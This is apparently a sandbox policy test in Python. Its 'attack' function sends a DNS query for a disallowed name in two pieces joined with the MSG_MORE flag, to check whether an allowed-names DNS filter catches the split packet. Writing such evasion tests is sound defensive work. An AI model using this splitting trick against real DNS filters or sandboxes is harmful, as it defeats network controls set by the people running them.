"""A question corked in pieces
Builds one datagram of several sends with MSG_MORE.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""


def attack(at):
    asker = at.udp()
    asker.connect((at.RESOLVER, 53))
    packet = at.query(at.evil())
    asker.send(packet[:13], 0x8000)
    asker.send(packet[13:])
    return b'evil' in asker.recv(500)
